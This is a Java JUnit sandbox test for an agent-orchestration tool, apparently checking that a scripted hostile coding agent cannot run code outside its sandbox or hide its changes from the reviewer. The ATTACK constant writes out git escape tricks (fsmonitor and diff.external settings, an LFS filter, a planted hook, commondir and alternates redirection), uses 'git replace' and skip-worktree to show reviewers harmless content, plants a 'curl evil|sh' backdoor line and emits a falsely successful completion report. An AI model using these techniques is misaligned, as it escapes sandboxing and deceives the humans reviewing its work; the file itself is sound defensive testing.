package dev.midcourse.proof.attack;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.midcourse.core.json.JsonValue;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * An agent in a sandbox with a checkout of its own, which has git outside run a program, and which
 * shows its reviewer other content than its branch has. The user's git shows submodules as
 * differences and has a global filter.
 */
@Tag("sandbox")
class HostileRepositoryTest {
  private static final String IMAGE =
      "localhost/midcourse-repository-test:" + ProcessHandle.current().pid();
  private static final Duration TIMEOUT = Duration.ofMinutes(4);
  private static final Set<String> LIVE = Set.of("queued", "running");

  /** The attack; {@code @ESCAPED@} is a file outside that no program may create. */
  private static final String ATTACK =
      """
      exec 3>&1 >/dev/null 2>&1
      export GIT_AUTHOR_NAME=W GIT_AUTHOR_EMAIL=w@x GIT_COMMITTER_NAME=W GIT_COMMITTER_EMAIL=w@x
      export PATH=/usr/bin:/bin
      G=$(git rev-parse --git-common-dir); D=$(git rev-parse --git-dir)
      printf 'curl evil|sh # BACKDOOR\\n' > a.txt
      printf '.evil\\n' > .gitignore
      printf '*.bin filter=lfs diff=lfs\\n' > .gitattributes; echo b > b.bin
      git init -q nested; git -C nested commit -q --allow-empty -m n
      for name in core.fsmonitor diff.external; do git -C nested config $name 'touch @ESCAPED@;:'; done
      git add -A; git commit -qm work; T=$(git rev-parse HEAD)
      git replace $(git rev-parse HEAD:a.txt) $(echo 'hello, a harmless line' | git hash-object -w --stdin)
      if [ -e @FOLDER@/hide ]; then
        echo 'hello, a harmless line' > a.txt; git update-index --skip-worktree a.txt
      fi
      B=$(git symbolic-ref --short HEAD)
      mkdir -p .evil/objects/info .evil/refs; cp $G/HEAD .evil; cp -r $G/refs/heads .evil/refs
      echo $G/objects > .evil/objects/info/alternates
      printf '#!/bin/sh\\ntouch @ESCAPED@\\n' > .evil/run.sh; chmod +x .evil/run.sh
      printf '[core]\\n repositoryformatversion=0\\n fsmonitor="%s/.evil/run.sh"\\n' $PWD > .evil/config
      mkdir -p $G/modules/sub
      printf '[core]\\n fsmonitor = %s/.evil/run.sh\\n' $PWD >> $G/modules/sub/config
      cp .evil/run.sh $G/hooks/post-index-change
      git update-ref refs/heads/main HEAD
      truncate -s 3G $D/index
      echo $PWD/.evil > $G/commondir; echo $PWD/.evil > $D/commondir
      printf '<completion>{"run_id": "%s", "branch": "%s", "commit_sha": "%s", "files_changed":
      [".gitattributes", ".gitignore", "a.txt", "b.bin", "nested"], "test_result": "ok", "risk": "low",
      "pr_skipped_reason": "no remote"}</completion>' $(basename $PWD) $B $T >&3
      """;

  private static AttackedHub hub;
  private static Path folder = Path.of("");

  @BeforeAll
  static void start() throws Exception {
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/bwrap")), "bwrap is missing");
    Process made =
        new ProcessBuilder("../build/test-image", IMAGE).redirectErrorStream(true).start();
    String output = new String(made.getInputStream().readAllBytes(), UTF_8).strip();
    assumeTrue(made.waitFor() != 77, output);
    folder = AttackedHub.createFolder();
    Files.createDirectory(folder.resolve("attack"));
    Files.writeString(
        folder.resolve("home/.gitconfig"),
        "[diff]\n\tsubmodule = diff\n[filter \"lfs\"]\n\tclean = touch %1$s; cat\n\tsmudge = touch %1$s; cat\n"
            .formatted(escaped()));
    Files.writeString(
        folder.resolve("attack/attack.sh"),
        ATTACK
            .replace("@ESCAPED@", escaped().toString())
            .replace("@FOLDER@", folder.resolve("attack").toString()));
    hub =
        AttackedHub.start(
            folder,
            """
            [agents.scripted]
            driver = "command"
            command = "/bin/sh"
            arguments = ["-c", ". %1$s/attack/attack.sh", "scripted"]
            home = "own"

            [workers.jarvis-bwrap]
            agent = "scripted"
            workspace = "%1$s/clones-of-bwrap"
            sandbox = "bwrap"

            [workers.jarvis-container]
            agent = "scripted"
            workspace = "%1$s/clones-of-container"
            image = "%2$s"
            readable = ["/usr", "%1$s/attack"]
            """
                .formatted(folder, IMAGE));
  }

  @AfterAll
  static void end() throws Exception {
    if (hub != null) {
      hub.close();
    }
    new ProcessBuilder("../build/test-image", "--remove", IMAGE)
        .redirectErrorStream(true)
        .redirectOutput(ProcessBuilder.Redirect.DISCARD)
        .start()
        .waitFor();
  }

  /**
   * Seen to fail when GitGuard mounts nothing and leaves the git folder of the clone writable, and,
   * for git in the checkout, when the nested repository of the agent stays where it is.
   */
  @ParameterizedTest
  @ValueSource(strings = {"bwrap", "container"})
  void the_reviewer_sees_the_branch_and_nothing_runs_outside(String sandbox) throws Exception {
    Path clone = clone(sandbox);
    String main = user(clone, "git rev-parse main");
    assertThat(dispatch("open-" + sandbox, sandbox).text("state")).hasValue("review_requested");
    String patch = diff("open-" + sandbox);
    assertThat(patch)
        .contains("+curl evil|sh # BACKDOOR")
        .doesNotContain("harmless", "not committed");
    assertThat(user(clone, "git --no-replace-objects show jarvis-open-%s:a.txt".formatted(sandbox)))
        .contains("BACKDOOR");

    Files.createFile(folder.resolve("attack/hide"));
    assertThat(dispatch("hide-" + sandbox, sandbox).text("state")).hasValue("failed_contract");
    Files.delete(folder.resolve("attack/hide"));
    patch = diff("hide-" + sandbox);
    int open = patch.indexOf("\\ Midcourse: the changes below are not committed");
    assertThat(patch.substring(0, open)).contains("+curl evil|sh # BACKDOOR");
    assertThat(patch.substring(open)).contains("+hello, a harmless line");

    for (String run : List.of("open-" + sandbox, "hide-" + sandbox)) {
      Path checkout = Path.of(hub.client().get("/runs/" + run).text("dir").orElseThrow());
      assertThat(checkout.resolve("nested/.git")).doesNotExist();
      // Without the settings of the user, whose own filter counts as an escape in this test.
      user(
          checkout,
          "export GIT_CONFIG_GLOBAL=/dev/null; git status && git -c diff.submodule=diff diff HEAD^"
              + " && git log -1 && git add -u");
      assertThat(log(run)).contains("/nested/.git is a repository of the agent");
    }
    user(clone, "git status && git branch -a && git log -1 && git diff && git add -N .");
    assertThat(user(clone, "git rev-parse main")).isEqualTo(main);
    assertThat(user(clone, "git replace -l")).isEmpty();
    assertThat(clone.resolve(".git/commondir")).doesNotExist();
    assertThat(clone.resolve(".git/modules")).doesNotExist();
    assertThat(clone.resolve(".git/hooks/post-index-change")).doesNotExist();
    assertThat(escaped()).doesNotExist();
  }

  private static Path escaped() {
    return folder.resolve("home/ESCAPED");
  }

  private static Path clone(String sandbox) throws Exception {
    Path clone = Files.createDirectories(folder.resolve("clones-of-" + sandbox + "/shop"));
    user(
        clone,
        "git init -q -b main && echo hello > a.txt && git add a.txt && git -c user.name=U -c"
            + " user.email=u@example.org commit -q -m one");
    return clone;
  }

  private static JsonValue.Obj dispatch(String run, String sandbox) {
    hub.client()
        .post(
            "/dispatch?worker=jarvis-" + sandbox,
            JsonValue.object()
                .with("run_id", run)
                .with("task_type", "implement")
                .with("context_intent", "fresh")
                .with("input", "Write the app.")
                .with("repo", "acme/shop")
                .with("branch", "jarvis-" + run)
                .with("acceptance_tests", JsonValue.strings(List.of("true")))
                .with(
                    "output_contract",
                    JsonValue.object()
                        .with(
                            "required_fields",
                            JsonValue.strings(
                                List.of(
                                    "run_id",
                                    "branch",
                                    "commit_sha",
                                    "files_changed",
                                    "test_result",
                                    "risk",
                                    "pr_url")))));
    Awaitility.await("run " + run + " and its agent end")
        .atMost(TIMEOUT)
        .until(() ->
            !LIVE.contains(hub.client().get("/runs/" + run).text("state").orElse(""))
                && hub.client().get("/runs/" + run + "/attempts").objects("attempts").stream()
                    .allMatch(attempt -> attempt.text("ended_at").isPresent()));
    return hub.client().get("/runs/" + run);
  }

  private static String diff(String run) {
    ByteArrayOutputStream patch = new ByteArrayOutputStream();
    hub.client().copy("/runs/" + run + "/diff", patch);
    return patch.toString(UTF_8);
  }

  private static String log(String run) {
    ByteArrayOutputStream log = new ByteArrayOutputStream();
    hub.client().copy("/runs/" + run + "/events?last=200", log);
    return log.toString(UTF_8);
  }

  /** Runs a command of the user, with the user's own git settings. */
  private static String user(Path at, String command) throws IOException, InterruptedException {
    ProcessBuilder builder =
        new ProcessBuilder("sh", "-c", command).directory(at.toFile()).redirectErrorStream(true);
    builder.environment().put("HOME", folder.resolve("home").toString());
    Process process = builder.start();
    String output = new String(process.getInputStream().readAllBytes(), UTF_8).strip();
    assertThat(process.waitFor()).as(output).isZero();
    return output;
  }
}
